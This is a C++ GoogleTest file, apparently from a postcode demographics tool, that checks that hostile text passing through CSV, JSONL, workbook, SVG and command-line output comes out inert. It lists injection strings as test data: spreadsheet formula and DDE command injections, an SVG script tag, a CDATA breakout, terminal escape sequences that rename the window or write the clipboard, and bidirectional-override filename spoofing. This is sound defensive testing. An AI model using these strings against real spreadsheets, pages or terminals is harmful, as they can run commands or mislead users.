// Hostile text from outside through every door: a place name, a figure's label
// and a figure's value that try to run a formula, end an XML element, steer the
// terminal or hide what they say, or are longer than a cell holds. Each goes
// into every result format and the map, and through a site on loopback into
// the command line's show and lookup; every file is read back as its reader
// reads it (Python's csv as a spreadsheet takes cells, json, xml, openpyxl).
#include "core/listmodel.h"
#include "export/alignedlayout.h"
#include "export/alignedspool.h"
#include "export/alignedwriter.h"
#include "export/csvwriter.h"
#include "export/jsonlwriter.h"
#include "export/resultstable.h"
#include "export/workbookwriter.h"
#include "map/atlas.h"
#include "map/mapfile.h"
#include "tests/support/clirun.h"
#include "tests/support/realreaders.h"
#include "tests/support/samplepages.h"
#include "tests/support/testsite.h"
#include "tests/support/wholefile.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <gtest/gtest.h>

namespace zd::test {
namespace {

struct Hostile {
    const char* name;
    QString text;
};

void PrintTo(const Hostile& hostile, std::ostream* out) { *out << hostile.name; }

QString withUnits(std::initializer_list<char16_t> units)
{
    QString text;
    for (const char16_t unit : units)
        text += QChar(unit);
    return text;
}

const QList<Hostile>& hostileTexts()
{
    static const QList<Hostile> texts = {
        {"Hyperlink", QStringLiteral("=HYPERLINK(\"http://x.test/?\"&A1,\"Springfield\")")},
        {"DdeCommand", QStringLiteral("=cmd|' /C calc'!A0")},
        {"Plus", QStringLiteral("+SUM(1,2)")},
        {"Minus", QStringLiteral("-2+3+cmd|' /C calc'!A0")},
        {"At", QStringLiteral("@SUM(A1:A2)")},
        {"Tab", QStringLiteral("\t=1+1")},
        {"CarriageReturn", QStringLiteral("\r=1+1")},
        {"PlainNegativeNumber", QStringLiteral("-2.5")},
        {"ScriptInTitle", QStringLiteral("</title><script>alert(document.domain)</script><title>")},
        {"Ampersand", QStringLiteral("Fish & Chips <b>")},
        {"CdataEnd", QStringLiteral("]]><![CDATA[x")},
        {"TitleChange", QStringLiteral("\x1b]0;owned\x07Springfield")},
        {"ClipboardWrite", QStringLiteral("\x1b]52;c;ZWNobyBvd25lZA==\x07Springfield\x1b[2J")},
        {"Nul", QStringLiteral("Spring") + QChar(0) + QStringLiteral("field")},
        {"C1Controls", QStringLiteral("Spring") + withUnits({0x80, 0x8d, 0x9b, 0x9d, 0x9f}) + QStringLiteral("field")},
        {"BidiOverrides", QStringLiteral("Spring") + withUnits({0x202e, 0x2066}) + QStringLiteral("txt.exe")
                              + withUnits({0x2069, 0x202c})},
        {"VeryLong", QString(40000, QLatin1Char('L'))},
        // A number whose unit is too long for a workbook's number format.
        {"LongUnit", QStringLiteral("1 ") + QString(200, QLatin1Char('u'))},
    };
    return texts;
}

// What each file and run must show, as its reader sees it; the problems found,
// one line each, as a JSON list. A cell "keeps" the text when the text's
// printable characters stand in it in order (escapes may sit between them),
// or, cut with the mark, when the text starts with what stands before the mark.
const char* const kCheckDoors = R"(
import csv, json, re, sys, xml.etree.ElementTree as ET
import openpyxl
args = json.load(open(sys.argv[1], encoding='utf-8'))
text, files, runs = args['text'], args['files'], args['runs']
MARK = '\u2026 [cut]'
# The terminal and the map show no control at all; a file no control byte (C0,
# DEL), its C1 and bidirectional characters being the text's own.
def control(c):
    o = ord(c)
    return o < 0x20 or 0x7f <= o <= 0x9f or 0x202a <= o <= 0x202e or 0x2066 <= o <= 0x2069
def control_byte(c):
    return ord(c) < 0x20 or ord(c) == 0x7f
printable = [c for c in text if not control(c)]
def keeps(cell):
    if cell.endswith(MARK) and len(cell) < len(text):
        return text.startswith(cell[:-len(MARK)])
    it = iter(cell)
    return all(c in it for c in printable)
NUMBER = re.compile(r'^[+-]?\$?(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?(?:[eE][+-]?\d+)?%?$')
problems = []
def check(where, ok):
    if not ok:
        problems.append(where)
def check_cells(where, cells):
    for cell in cells:
        check(where + ': a control byte in a cell', not any(control_byte(c) for c in cell))
        check(where + ': a cell starts a formula: ' + cell[:30],
              not cell[:1] in ('=', '+', '-', '@', '\t', '\r') or NUMBER.match(cell))
def no_raw_controls(where, data, kept=b'\t\r\n'):
    check(where + ': a raw control byte', not any(b < 0x20 and b not in kept or b == 0x7f for b in data))
def no_controls_on_terminal(where, data):
    no_raw_controls(where, data)
    check(where + ': a C1 control or bidi override',
          not re.search(rb'\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]', data))

for name, figure_cell in (('csv', 5), ('csv-long', 4)):
    rows = list(csv.reader(open(files[name], newline='', encoding='utf-8')))
    check(name + ': rows', len(rows) == (2 if name == 'csv' else 3))
    for row in rows:
        check_cells(name, row)
    check(name + ': the location keeps the text', keeps(rows[1][3]))
    check(name + ': the value keeps the text', keeps(rows[-1][figure_cell]))
    if text == '-2.5':
        check(name + ': a plain number stays a number', rows[-1][figure_cell] == text)

data = open(files['jsonl'], 'rb').read()
no_raw_controls('jsonl', data, b'\n')
line = json.loads(data.splitlines()[0])
check('jsonl: the location reads back whole', line['location'] == text)
check('jsonl: the label reads back whole', line['figures'][0]['label'] == text)
check('jsonl: the value reads back whole', line['figures'][1]['value'] == text)

sheet = openpyxl.load_workbook(files['xlsx'])['Demographics']
cells = [[str(c.value) for c in row if c.value is not None] for row in sheet.iter_rows()]
for row in cells:
    check('xlsx: a control byte in a cell', not any(control_byte(c) for cell in row for c in cell))
    check('xlsx: a cell over the limit', all(len(cell) <= 32767 for cell in row))
check('xlsx: the location keeps the text', keeps(cells[1][3]))
check('xlsx: the label keeps the text', keeps(cells[0][4]))
check('xlsx: the value keeps the text', keeps(cells[1][5]))

for name in ('aligned', 'aligned-window'):
    data = open(files[name], 'rb').read()
    no_raw_controls(name, data)
    lines = data.split(b'\r\n')
    check(name + ': three lines of two cells', lines[-1] == b'' and len(lines) == 4
          and all(l.count(b'\t') == 2 for l in lines[:-1]))
data = open(files['screen'], 'rb').read()
no_raw_controls('screen', data)
check('screen: three lines', data.count(b'\n') == 3 and all(l.count(b'\t') == 2 for l in data.splitlines()))

data = open(files['svg'], 'rb').read()
try:
    svg = ET.fromstring(data)
    check('svg: a script element', not any(e.tag.endswith('script') for e in svg.iter()))
    title = ''.join(e.text or '' for e in svg.iter() if e.tag.endswith('}title'))
    # The description's lines, the text's own first, joined by LF.
    desc = ''.join(e.text or '' for e in svg.iter() if e.tag.endswith('}desc')).split('\n')[0]
    for where, shown in (('title', title), ('desc', desc)):
        check('svg: a control character in the ' + where, not any(control(c) for c in shown))
        check('svg: the ' + where + ' keeps the text', keeps(shown))
except ET.ParseError as error:
    problems.append('svg: not XML: ' + str(error))

for name, run in runs.items():
    no_controls_on_terminal(name, open(run, 'rb').read())
print(json.dumps(problems))
)";

class HostileText : public ::testing::TestWithParam<Hostile> {
protected:
    QString path(const QString& name) const { return m_folder.filePath(name); }

    // The place name, a figure's label and another figure's value are the text.
    EntryResult hostileEntry() const
    {
        const QString& text = GetParam().text;
        EntryResult entry;
        entry.entry = entry.zip = QStringLiteral("03053");
        entry.status = EntryStatus::Found;
        entry.location = text;
        entry.figures = {Figure{text, QStringLiteral("12,345")}, Figure{QStringLiteral("Hostile value"), text}};
        return entry;
    }

    void writeTableFormats()
    {
        ResultsTable table;
        table.append(hostileEntry());
        const RunInfo run{QStringLiteral("127.0.0.1"), QDateTime::currentDateTimeUtc(), QStringLiteral("0")};
        for (const TableWriteOutcome& outcome :
             {writeCsv(table, path("r.csv"), CsvLayout::Wide), writeCsv(table, path("long.csv"), CsvLayout::Long),
              writeJsonLines(table, path("r.jsonl")), writeWorkbook(table, path("r.xlsx"), run)})
            EXPECT_TRUE(outcome.written) << outcome.description.toStdString();
    }

    // The demographics list's shape: the name row, then label and value.
    void writeAlignedLayouts()
    {
        const QString& text = GetParam().text;
        ListModel list;
        list.addColumn(QStringLiteral("Demographics"));
        list.addColumn(QStringLiteral("Value"));
        list.addRow(text);
        list.setSubItem(list.addRow(text), 1, text);
        EXPECT_TRUE(writeListAligned(list, path("window.txt")).written);
        AlignedSpool spool(list);
        QString error;
        ASSERT_TRUE(spool.open(path("r.txt"), error)) << error.toStdString();
        spool.addRows(list);
        EXPECT_TRUE(spool.write(path("r.txt")).written);
        ASSERT_TRUE(writeWholeFile(path("screen.txt"), alignedText(list).toUtf8()));
    }

    void drawHostileMap()
    {
        MapPicture picture;
        picture.title = GetParam().text;
        picture.sourceLines = {GetParam().text, QStringLiteral("Outlines: test")};
        picture.dots.push_back({QStringLiteral("03053"), *projectUsa(42.88, -71.45), 1.0});
        static const Atlas atlas = Atlas::read(QStringLiteral(ZD_OUTLINES_FILE));
        EXPECT_FALSE(writeMap(picture, path("r.svg"), MapFormat::Svg, 600, atlas).has_value());
    }

    // show in every format and lookup, against a site whose page for 03053
    // carries the text as its place name, a row's label and a row's value.
    QJsonObject runTerminal()
    {
        const QString& text = GetParam().text;
        TestSite site;
        SamplePageContent page{QStringLiteral("03053"), text, {{text, QStringLiteral("12,345")},
                                                                {QStringLiteral("Hostile value"), text}}, {}};
        site.setPage(QStringLiteral("03053"), renderSamplePage(page));
        const QStringList onSite = {"--site", QString(site.server().hostAndPort())};
        QJsonObject runs;
        const QList<std::pair<QString, QStringList>> commands = {
            {"show", QStringList{"show"} + onSite + QStringList{"03053"}},
            {"show-csv", QStringList{"show"} + onSite + QStringList{"--format", "csv", "03053"}},
            {"show-jsonl", QStringList{"show"} + onSite + QStringList{"--format", "jsonl", "03053"}},
            {"lookup", QStringList{"lookup"} + onSite + QStringList{"--delay", "0", "--retries", "0", "03053"}}};
        for (const auto& [name, arguments] : commands) {
            const ChildRun run = runCli(arguments);
            EXPECT_TRUE(run.exitedNormally) << name.toStdString();
            EXPECT_FALSE(run.out.isEmpty()) << name.toStdString() << run.err.constData();
            EXPECT_TRUE(writeWholeFile(path(name + ".out"), run.out) && writeWholeFile(path(name + ".err"), run.err));
            runs[name] = path(name + ".out");
            runs[name + "-err"] = path(name + ".err");
        }
        return runs;
    }

    QTemporaryDir m_folder;
};

TEST_P(HostileText, EveryDoorWritesItInertAndKeepsWhatItSays)
{
    if (const QString missing = pythonMissing({"openpyxl"}); !missing.isEmpty())
        GTEST_SKIP() << missing.toStdString();
    writeTableFormats();
    writeAlignedLayouts();
    drawHostileMap();
    const QJsonObject files{{"csv", path("r.csv")},     {"csv-long", path("long.csv")}, {"jsonl", path("r.jsonl")},
                            {"xlsx", path("r.xlsx")},   {"aligned", path("r.txt")},     {"aligned-window", path("window.txt")},
                            {"screen", path("screen.txt")}, {"svg", path("r.svg")}};
    const QJsonObject check{{"text", GetParam().text}, {"files", files}, {"runs", runTerminal()}};
    ASSERT_TRUE(writeWholeFile(path("check.json"), QJsonDocument(check).toJson()));
    const QJsonArray problems = runPythonForJson(kCheckDoors, {path("check.json")}).array();
    EXPECT_TRUE(problems.isEmpty()) << QJsonDocument(problems).toJson().constData();
}

INSTANTIATE_TEST_SUITE_P(Texts, HostileText, ::testing::ValuesIn(hostileTexts()),
                         [](const ::testing::TestParamInfo<Hostile>& info) { return info.param.name; });

}  // namespace
}  // namespace zd::test
